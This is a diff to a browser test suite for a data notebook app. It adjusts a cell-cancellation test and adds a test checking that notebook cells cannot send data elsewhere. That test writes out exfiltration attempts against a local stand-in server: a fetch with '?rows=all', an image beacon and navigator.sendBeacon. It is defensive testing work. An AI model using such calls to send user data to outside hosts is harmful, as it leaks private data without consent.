@@ -1,6 +1,7 @@
 // What holds of the notebook. Each test opens a page of its own.
 import { rmSync } from "node:fs";
 import { mkdtemp, readFile, truncate, writeFile } from "node:fs/promises";
+import { createServer } from "node:http";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 
@@ -232,14 +233,15 @@ export async function suite() {
     await drop(page, path);
     await page.locator("#cell-data .running:not([hidden]) progress").waitFor();
     await done(page, "similar", 60_000);
-    await page.locator("#cell-stability .running:not([hidden]) .cancel").click();
-    await shows(page, "stability", "Cancelled. Run the cell again to go on.");
     // The page answers while samples are compared.
-    await edit(page, "stability", "for (const measure of ['llr', 'pmi', 'npmi', 'lift']) await ilk.stability(data, { ...job, measure }, 1)");
-    await page.locator("#cell-stability .running:not([hidden])").waitFor();
+    await edit(page, "stability", "for (const measure of ['llr', 'pmi', 'npmi', 'lift', 'dice', 'jaccard']) await ilk.stability(data, { ...job, measure }, 1)");
+    const cancel = page.locator("#cell-stability .running:not([hidden]) .cancel");
+    await cancel.waitFor();
     await page.locator(".search input").fill("heart");
     await page.locator("[role=option]").first().waitFor({ timeout: 3000 });
-    holds((await page.locator("#cell-stability[data-state=pending]").count()) === 1, "it was still computing");
+    await cancel.click();
+    await shows(page, "stability", "Cancelled. Run the cell again to go on.");
+    await shows(page, "home", "--measure cosine");
     await edit(page, "stability", "const stability = await ilk.stability(data, job, 0.05)\ndisplay(show.stability(stability, data, job))");
     await done(page, "stability", 90_000);
     await done(page, "ladder", 90_000);
@@ -316,6 +318,25 @@ export async function suite() {
     const csv = await readFile(await download.path(), "utf8");
     holds(csv.startsWith("item,neighbour,rank,score,overlap,item_label,neighbour_label\n") || csv.startsWith("item,neighbour,rank,score,overlap"), csv.slice(0, 80));
   });
+
+  test("no code in a cell can send anything to anybody else", async ({ page, url }) => {
+    let asked = 0;
+    const other = createServer((_, response) => {
+      asked += 1;
+      response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("heard");
+    });
+    await new Promise((resolve) => other.listen(0, "127.0.0.1", resolve));
+    const address = `http://127.0.0.1:${other.address().port}/`;
+    await page.goto(url);
+    await allDone(page);
+    await edit(page, "machine", `const answer = await fetch("${address}?rows=all").then((one) => one.text())`);
+    await shows(page, "machine", "TypeError");
+    await edit(page, "machine", `const image = new Image()\nimage.src = "${address}?rows=all"\nconst sent = navigator.sendBeacon("${address}", "all")\ndisplay("tried")`);
+    await shows(page, "machine", "tried");
+    await page.waitForTimeout(500);
+    other.close();
+    equal(asked, 0, "what the other heard");
+  }, { expects: /Content Security Policy|Refused to|violates the following|Failed to fetch/, isForeign: true });
 
   test("the map is readable with 300 items, and goes where one points", async ({ page, url }) => {
     await page.goto(url);
